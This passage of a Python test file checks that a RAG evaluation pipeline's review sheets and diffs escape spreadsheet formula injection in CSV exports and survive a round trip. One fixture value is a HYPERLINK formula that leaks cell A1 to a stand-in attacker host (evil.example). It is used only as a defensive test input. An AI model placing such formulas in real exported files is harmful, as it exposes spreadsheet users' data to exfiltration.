    "formulas.md#2": "@SUM(A1:A9) adds up the first nine cells of a column.",
    "formulas.md#3": "+44 is the international calling code of the United Kingdom.",
    "formulas.md#4": "\tTabbed: the shipment window opens at 06:00 and closes at 22:00.",
    "=cmd.md#0": "\rThe refund is paid within 14 days of the return.",
}


def _hostile(chunk_id, question, ground_truth, question_type=SIMPLE):
    return review_item(question_type, [chunk_id], question, ground_truth, HOSTILE_CHUNKS)


HOSTILE = [
    _hostile(
        "formulas.md#0",
        '=HYPERLINK("http://evil.example/","what is this link formula?")',
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details") is a link formula.',
    ),
    _hostile("formulas.md#1", "-5 degrees was the coldest reading on which day?", "-5 degrees, on 3 February."),
    _hostile("formulas.md#2", "@SUM(A1:A9) adds up which cells?", "@SUM(A1:A9) adds up the first nine cells."),
    _hostile("formulas.md#3", "+44 is the calling code of which country?", "+44 is the code of the United Kingdom."),
    _hostile("formulas.md#4", "When does the shipment window open?", "The shipment window opens at 06:00."),
    _hostile("=cmd.md#0", "Within how many days is the refund paid?", "The refund is paid within 14 days."),
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _csv_cells(path) -> list[dict]:
    import csv

    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_a_csv_sheet_starts_no_cell_with_a_formula(tmp_path):
    golden = _golden(HOSTILE)
    sheet = review_sheet(golden)

    rows = _csv_cells(write_sheet(sheet, tmp_path / "review.csv"))

    assert len(rows) == len(HOSTILE)
    cells = [value for row in rows for value in row.values()]
    assert not [value for value in cells if value.startswith(FORMULA_STARTS)]
    for row, written in zip(rows, sheet.to_dict("records")):
        for column, value in written.items():
            text = str(value)
            # Shown as text: the single quote a spreadsheet reads as "this is text", and nothing else changed.
            assert row[column] == ("'" + text if text.startswith(FORMULA_STARTS) else text), column
    escaped = sum(value.startswith("'") for value in cells)
    assert escaped >= 12  # the questions, ground truths, contexts and a chunk id of every hostile row


def test_the_jsonl_sheet_keeps_the_text_as_it_is(tmp_path):
    lines = (
        write_sheet(review_sheet(_golden(HOSTILE)), tmp_path / "review.jsonl").read_text(encoding="utf-8").splitlines()
    )
    assert [json.loads(line)["question"] for line in lines] == [item.question for item in HOSTILE]


@pytest.mark.parametrize("spreadsheet", ["kept the quote", "consumed the quote"])
def test_an_untouched_csv_sheet_reads_back_to_the_same_golden_set(tmp_path, verify, spreadsheet):
    from rag_eval_pipeline.synthesis.versions import content_hash

    golden = _golden(HOSTILE)
    path = write_sheet(review_sheet(golden), tmp_path / "review.csv")
    if spreadsheet == "consumed the quote":  # saved by a program that took the quote as its text marker
        import csv

        rows = [{k: v[1:] if v.startswith("'") else v for k, v in row.items()} for row in _csv_cells(path)]
        pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)

    result = apply_review(golden, read_sheet(path), verify)

    assert result.summary["unreviewed"] == len(HOSTILE)
    assert content_hash(result.golden) == content_hash(golden)
    assert result.golden["question"].tolist() == [item.question for item in HOSTILE]


def test_a_reviewers_text_is_taken_as_the_spreadsheet_shows_it(tmp_path, verify):
    import csv

    golden = _golden(HOSTILE)
    path = write_sheet(review_sheet(golden), tmp_path / "review.csv")
    typed = {  # what a reviewer's program saved in edited_question
        HOSTILE[1].qa_id: "-5 degrees: on which day was it read?",  # a text editor: as typed
        HOSTILE[
            2
        ].qa_id: "'@SUM(A1:A9) adds which cells up?",  # a spreadsheet that kept the text mark it was typed with
        HOSTILE[3].qa_id: "'Plus 44' is the calling code of which country?",  # a quote that is no text mark
    }
    rows = _csv_cells(path)
    for row in rows:
        if row["qa_id"] in typed:
            row.update(decision="edit", edited_question=typed[row["qa_id"]])
    pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)

    result = apply_review(golden, read_sheet(path), verify)

    reviewed = result.golden[result.golden["review"] == "edited"]
    assert dict(zip(reviewed["derived_from"], reviewed["question"])) == {
        HOSTILE[1].qa_id: "-5 degrees: on which day was it read?",
        HOSTILE[2].qa_id: "@SUM(A1:A9) adds which cells up?",
        HOSTILE[3].qa_id: "'Plus 44' is the calling code of which country?",
    }


def test_text_that_starts_with_quotes_before_a_formula_survives_the_round_trip(tmp_path):
    questions = ["'=1+1 is shown how?", "''-5 as written?", "'Tis the season?", "-5 degrees?", "plain?"]
    sheet = pd.DataFrame({"qa_id": [f"q{n}" for n in range(len(questions))], "question": questions})

    back = read_sheet(write_sheet(sheet, tmp_path / "sheet.csv"))

    assert back["question"].tolist() == questions
    assert not [q for q in _csv_cells(tmp_path / "sheet.csv") if q["question"].startswith(FORMULA_STARTS)]


def test_a_copy_of_a_marked_cell_in_an_edit_is_the_text_it_shows(tmp_path, verify):
    """The question cell copied into edited_question as the file has it (in a text editor): the question, unchanged."""
    import csv

    golden = _golden(HOSTILE)
    item = HOSTILE[1]
    path = write_sheet(review_sheet(golden), tmp_path / "review.csv")
    rows = _csv_cells(path)
    rows[1].update(
        decision="edit", edited_question=rows[1]["question"], edited_ground_truth="-5 degrees was read on 3 February."
    )
    assert rows[1]["edited_question"] == "'" + item.question
    pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)

    edited = apply_review(golden, read_sheet(path), verify).golden.iloc[1]

    assert edited["question"] == item.question and edited["ground_truth"] == "-5 degrees was read on 3 February."
    assert edited["quality_score"] == golden["quality_score"].iloc[1]  # an unchanged question keeps its score


# ---- the command line: what an import publishes -------------------------------------------------


def _import(sheet_path, new_version="v2", version="v1") -> int:
    return _rag_eval(
        "review",
        "import",
        "--tenant",
        "acme",
        "--version",
        version,
        "--file",
        str(sheet_path),
        "--new-version",
        new_version,
    )


def _one_error_line(capsys) -> str:
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    return lines[0]


def _assert_not_published(warehouse, version: str) -> None:
    from dagster import AssetKey

    from rag_eval_pipeline.instance import local_instance

    assert not warehouse.partition_dir("acme", version).exists()
    assert not local_instance().has_dynamic_partition("dataset_version", version)
    assert local_instance().get_materialized_partitions(AssetKey("golden_set")) == set()


@pytest.mark.cli
def test_a_review_of_an_unpublished_version_is_refused(cli_env, tmp_path, capsys):
    """A version whose synthesis failed its suite has tables but no manifest: there is nothing to review."""
    lay_out_version(cli_env, "acme", "v0", _golden(ITEMS), published=False)
    sheet_path = write_sheet(_sheet(_golden(ITEMS), **{HOTEL.qa_id: {"decision": "accept"}}), tmp_path / "review.csv")

    assert _import(sheet_path, version="v0") == 2

    assert "acme/v0 is not published" in _one_error_line(capsys)
    _assert_not_published(cli_env, "v2")


@pytest.mark.cli
def test_a_reviewed_golden_set_that_fails_the_expectations_suite_is_not_published(cli_env, tmp_path, capsys):
    # A question of 8 characters: the synthesis suite wants at least 10.
    sheet = _sheet(_golden(ITEMS), **{BACKUPS.qa_id: {"decision": "edit", "edited_question": "Backups?"}})

    assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 2

    line = _one_error_line(capsys)
    assert "fails the expectations suite" in line and "nothing was published" in line
    assert "expect_column_value_lengths_to_be_between" in line and "question" in line
    _assert_not_published(cli_env, "v2")


@pytest.mark.cli
def test_losing_a_planned_type_to_failed_edits_is_refused(cli_env, tmp_path, capsys):
    sheet = _sheet(
        _golden(ITEMS),
        **{i.qa_id: {"decision": "edit", "edited_ground_truth": UNSUPPORTED} for i in (LOGS, BACKUPS, HOTEL)},
    )

    assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 2

    line = _one_error_line(capsys)
    assert "expect_column_distinct_values_to_contain_set" in line and "missing [simple]" in line
    _assert_not_published(cli_env, "v2")


@pytest.mark.cli
def test_a_reviewer_may_reject_every_item_of_a_type(cli_env, tmp_path, capsys):
    from rag_eval_pipeline.synthesis.versions import content_hash, read_manifest

    sheet = _sheet(_golden(ITEMS), **{i.qa_id: {"decision": "reject"} for i in (LOGS, BACKUPS, HOTEL)})

    assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 0

    assert "no simple question is left: the review rejected every one" in capsys.readouterr().out
    manifest = read_manifest(cli_env, "acme", "v2")
    assert manifest.counts_by_type == {"unanswerable": 1}
    assert manifest.content_hash == content_hash(cli_env.read("acme", "v2", "golden_set"))


@pytest.mark.cli
def test_a_sheet_that_rejects_every_item_publishes_nothing(cli_env, tmp_path, capsys):
    sheet = _sheet(_golden(ITEMS), **{item.qa_id: {"decision": "reject"} for item in ITEMS})

    assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 2

    assert "keeps no item of the golden set" in _one_error_line(capsys)
    _assert_not_published(cli_env, "v2")


@pytest.mark.cli
def test_an_unfinished_import_does_not_take_the_version_name(cli_env, tmp_path, capsys):
    """What a kill between the tables and the manifest leaves (tables, no manifest) is no version."""
    from rag_eval_pipeline.synthesis.versions import MANIFEST_FILE, content_hash, latest_version, read_manifest

    first = write_sheet(_sheet(_golden(ITEMS), **{LOGS.qa_id: {"decision": "reject"}}), tmp_path / "first.csv")
    assert _import(first) == 0
    (cli_env.partition_dir("acme", "v2") / MANIFEST_FILE).unlink()  # the import's last write, undone
    assert cli_env.exists("acme", "v2", "golden_set") and latest_version(cli_env, "acme") == "v1"
    capsys.readouterr()

    second = write_sheet(_sheet(_golden(ITEMS), **{HOTEL.qa_id: {"decision": "reject"}}), tmp_path / "second.csv")
    assert _import(second) == 0, capsys.readouterr().err

    golden = cli_env.read("acme", "v2", "golden_set")
    assert golden["qa_id"].tolist() == [LOGS.qa_id, BACKUPS.qa_id, TOKYO.qa_id]  # the second sheet's
    assert read_manifest(cli_env, "acme", "v2").content_hash == content_hash(golden)
    assert cli_env.read("acme", "v2", "rejected_qa")["qa_id"].tolist() == ["dropped-1", HOTEL.qa_id]
    assert latest_version(cli_env, "acme") == "v2"


@pytest.mark.cli
def test_an_unpublished_synthesis_under_the_new_name_is_not_overwritten(cli_env, tmp_path, capsys):
    lay_out_version(cli_env, "acme", "v2", _golden(ITEMS[:2]), published=False)  # a synthesis that failed its checks
    before = {path.name: path.read_bytes() for path in cli_env.partition_dir("acme", "v2").iterdir()}

    assert _import(write_sheet(review_sheet(_golden(ITEMS)), tmp_path / "review.csv")) == 2

    assert "acme/v2 holds the tables of an unpublished run" in _one_error_line(capsys)
    assert {path.name: path.read_bytes() for path in cli_env.partition_dir("acme", "v2").iterdir()} == before


@pytest.mark.cli
def test_a_hostile_tenants_sheet_round_trips_through_the_command_line(cli_env, tmp_path, capsys):
    from rag_eval_pipeline.synthesis.versions import content_hash, read_manifest

    lay_out_version(cli_env, "acme", "h1", _golden(HOSTILE), chunks=HOSTILE_CHUNKS, planned={SIMPLE: 6})
    sheet_path = tmp_path / "review.csv"
    assert _rag_eval("review", "export", "--tenant", "acme", "--version", "h1", "--out", str(sheet_path)) == 0
    assert not [v for row in _csv_cells(sheet_path) for v in row.values() if v.startswith(FORMULA_STARTS)]

    assert _import(sheet_path, new_version="h2", version="h1") == 0, capsys.readouterr().err

    assert read_manifest(cli_env, "acme", "h2").content_hash == content_hash(_golden(HOSTILE))
    assert cli_env.read("acme", "h2", "golden_set")["question"].tolist() == [item.question for item in HOSTILE]


@pytest.mark.cli
def test_a_diff_written_as_csv_starts_no_cell_with_a_formula(cli_env, tmp_path):
    lay_out_version(cli_env, "acme", "h1", _golden(HOSTILE[:4]), chunks=HOSTILE_CHUNKS, planned={SIMPLE: 4})
    sheet = _sheet(
        _golden(HOSTILE[:4]),
        **{
            HOSTILE[0].qa_id: {"decision": "reject"},
            HOSTILE[1].qa_id: {"decision": "edit", "edited_question": "-6 degrees when?"},
        },
    )
    assert _import(write_sheet(sheet, tmp_path / "review.csv"), new_version="h2", version="h1") == 0
    out = tmp_path / "diff.csv"

    assert _rag_eval("diff", "--tenant", "acme", "--from", "h1", "--to", "h2", "--out", str(out)) == 0

    rows = _csv_cells(out)
    assert {row["change"] for row in rows} == {"removed", "edited"}
    assert not [value for row in rows for value in row.values() if value.startswith(FORMULA_STARTS)]
    edited = next(row for row in rows if row["change"] == "edited")
    assert (edited["question"], edited["old_question"]) == ("'-6 degrees when?", "'" + HOSTILE[1].question)
